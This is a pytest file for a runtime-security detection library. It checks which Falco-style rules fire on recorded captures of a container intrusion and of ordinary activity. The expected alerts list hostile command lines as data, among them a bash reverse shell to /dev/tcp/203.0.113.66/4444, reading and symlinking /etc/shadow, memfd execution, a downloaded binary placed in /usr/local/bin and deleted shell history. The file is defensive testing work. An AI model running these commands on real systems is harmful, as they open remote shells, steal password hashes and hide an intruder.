@@ -1,0 +1,173 @@
+"""The captures that ship tell their tales: rules fire on what they are for, and on nothing else."""
+
+from collections import Counter
+from pathlib import Path
+
+import pytest
+
+import falcotrace as ft
+from shipped_captures import CAPTURES
+
+FIRST_LIGHT, INTRUSION, ORDINARY = (
+    CAPTURES / f"{name}.parquet" for name in ("first_light", "intrusion", "ordinary")
+)
+OFFICIAL_FILES = ("falco_rules", "falco-incubating_rules", "falco-sandbox_rules")
+
+SHOP, WORKER, HOST = "5d4c9e0f1b7a", "a81f0c3d9b26", "host"
+BREAK_IN = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
+HEALTH_CHECK = "sh -c wget -q -O /dev/null http://127.0.0.1:8080/ || exit 1"
+
+EXPECTED = [
+    ("Container with host-like capabilities", SHOP, "lighttpd -D -f /etc/lighttpd/lighttpd.conf"),
+    ("Shell in a container", SHOP, HEALTH_CHECK),
+    ("Configuration below etc written", HOST, "sh"),
+    ("Server program started a shell or a tool", SHOP, "status /srv/www/cgi-bin/status"),
+    (
+        "Shell in a container",
+        SHOP,
+        "sh -c echo checking shop; bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
+    ),
+    ("Shell in a container", SHOP, BREAK_IN),
+    ("System program connected to the network", SHOP, BREAK_IN),
+    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
+    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
+    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
+    ("Shell in a container", SHOP, "bash -i"),
+    ("Password hashes read", SHOP, "cat /etc/shadow"),
+    ("Link to a credential file", SHOP, "ln -s /etc/shadow /srv/www/robots.bak"),
+    ("File created below dev", SHOP, "cp /srv/www/robots.bak /dev/.cache"),
+    ("New program executed in a container", SHOP, "kworker"),
+    ("Program executed from memory", SHOP, "memfd:x"),
+    ("Program placed in a binary directory", SHOP, "cp /tmp/.x/kworker /usr/local/bin/free"),
+    ("Password hashes read", HOST, "tar -c -z -f /var/backups/etc.tar.gz -C / etc"),
+    ("Shell in a container", WORKER, "sh -c wc -l /data/orders.csv > /data/count"),
+    ("Configuration below etc written", SHOP, "bash -i"),
+    ("Scheduled job written", SHOP, "bash -i"),
+    ("Standard stream redirected to a connection", SHOP, "bash -i"),
+    ("Shell in a container", SHOP, HEALTH_CHECK),
+    ("Shell in a container", SHOP, "sh"),
+]
+"""Rule, container and command line of each alert of the shipped rules, in order."""
+
+OFFICIAL = {
+    "Create Symlink Over Sensitive Files": 1,
+    "Create files below dev": 1,
+    "Delete or rename shell history": 2,
+    "Drop and execute new binary in container": 1,
+    "Fileless execution via memfd_create": 1,
+    "Launch Excessively Capable Container": 1,
+    "Launch Ingress Remote File Copy Tools in Container": 3,
+    "Launch Sensitive Mount Container": 2,
+    "Non sudo setuid": 3,
+    "Read sensitive file untrusted": 2,
+    "Redirect STDOUT/STDIN to Network Connection in Container": 4,
+    "Reverse Shell from Web Server": 4,
+    "Run shell untrusted": 2,
+    "Schedule Cron Jobs": 1,
+    "System procs network activity": 1,
+    "Terminal shell in container": 1,
+    "User mgmt binaries": 1,
+    "Web Server Spawned Shell": 3,
+    "Write below etc": 1,
+    "Write below monitored dir": 1,
+}
+"""Alerts by rule with all three of Falco's rule files."""
+
+APPLICATION, CONNECTED = "c7e21b9a4d60", "Standard stream redirected to a connection"
+AGENT, BEHIND = "thumbs-f1ca20", "sh -i"
+BACKUP = ("Password hashes read", HOST, "tar -c -z -f /var/backups/etc.tar.gz -C / etc")
+DOWNLOAD = (
+    "python3 -c import urllib.request as u; "
+    "u.urlretrieve('http://static.example.net/cleanup.txt', '/usr/local/bin/cleanup')"
+)
+EXPECTED_OF_INTRUSION = [
+    BACKUP,
+    ("Program executed from shared memory", APPLICATION, AGENT),
+    ("Password hashes read", APPLICATION, AGENT),
+    ("Private key or cloud credentials read", APPLICATION, AGENT),
+    ("Private key or cloud credentials read", APPLICATION, AGENT),
+    (CONNECTED, APPLICATION, AGENT),
+    (CONNECTED, APPLICATION, AGENT),
+    (CONNECTED, APPLICATION, AGENT),
+    ("Program placed in a binary directory", APPLICATION, DOWNLOAD),
+    ("Configuration below etc written", APPLICATION, BEHIND),
+    ("Scheduled job written", APPLICATION, BEHIND),
+    (CONNECTED, APPLICATION, BEHIND),
+    BACKUP,
+    ("Key for logins written", APPLICATION, BEHIND),
+    (CONNECTED, APPLICATION, BEHIND),
+    ("Shell history removed", APPLICATION, "rm -f /root/.bash_history"),
+    BACKUP,
+]
+"""The same of the intrusion, without the shells that answer each report."""
+
+OFFICIAL_OF_INTRUSION = {
+    "Adding ssh keys to authorized_keys": 1,
+    "Clear Log Activities": 2,
+    "Decoding Payload in Container": 2,
+    "Delete or rename shell history": 2,
+    "Execution from /dev/shm": 1,
+    "Launch Sensitive Mount Container": 1,
+    "Non sudo setuid": 1,
+    "Read environment variable from /proc files": 5,
+    "Read sensitive file untrusted": 4,
+    "Read ssh information": 1,
+    "Redirect STDOUT/STDIN to Network Connection in Container": 5,
+    "Schedule Cron Jobs": 4,
+    "User mgmt binaries": 1,
+    "Write below etc": 1,
+    "Write below monitored dir": 2,
+}
+OFFICIAL_OF_ORDINARY = {
+    "Clear Log Activities": 1,
+    "Delete or rename shell history": 1,
+    "Launch Sensitive Mount Container": 1,
+    "Non sudo setuid": 1,
+    "Read sensitive file untrusted": 2,
+    "Schedule Cron Jobs": 3,
+    "User mgmt binaries": 1,
+}
+
+
+def alerts_of(path: Path, *, without: frozenset[str] = frozenset()) -> list[tuple[str, str, str]]:
+    """Rule, container and command line of each alert of the shipped rules, in order."""
+    with ft.open(path) as opened:
+        alerts = sorted(opened.scan(ft.rules()), key=lambda alert: alert.num)
+        return [
+            (alert.rule.name, str(fields["container.id"]), str(fields["proc.cmdline"]))
+            for alert in alerts
+            for fields in [alert.output_fields]
+            if alert.rule.name not in without
+        ]
+
+
+def test_shipped_rules_fire_where_expected() -> None:
+    """Each of the shipped rules fires on what it is for, and on nothing else."""
+    shells = frozenset({"Shell in a container"})
+    assert alerts_of(FIRST_LIGHT) == EXPECTED
+    assert alerts_of(INTRUSION, without=shells) == EXPECTED_OF_INTRUSION
+    assert alerts_of(ORDINARY, without=shells) == [BACKUP, BACKUP]
+
+
+def test_every_shipped_rule_fires_somewhere() -> None:
+    """A rule that no capture of ours shows is a rule that nobody saw work."""
+    fired = {rule for path in (FIRST_LIGHT, INTRUSION) for rule, _, _ in alerts_of(path)}
+    assert fired == {rule.name for rule in ft.rules().rules}
+
+
+@pytest.mark.parametrize(
+    ("path", "expected"),
+    [
+        (FIRST_LIGHT, OFFICIAL),
+        (INTRUSION, OFFICIAL_OF_INTRUSION),
+        (ORDINARY, OFFICIAL_OF_ORDINARY),
+    ],
+    ids=lambda value: value.stem if isinstance(value, Path) else "",
+)
+def test_official_rules_fire_where_expected(
+    shared: Path, path: Path, expected: dict[str, int]
+) -> None:
+    """Falco's own rules see the same break-ins."""
+    plan = ft.rules(*(shared / "falco-rules" / f"{name}.yaml" for name in OFFICIAL_FILES))
+    with ft.open(path) as opened:
+        assert Counter(alert.rule.name for alert in opened.scan(plan)) == expected
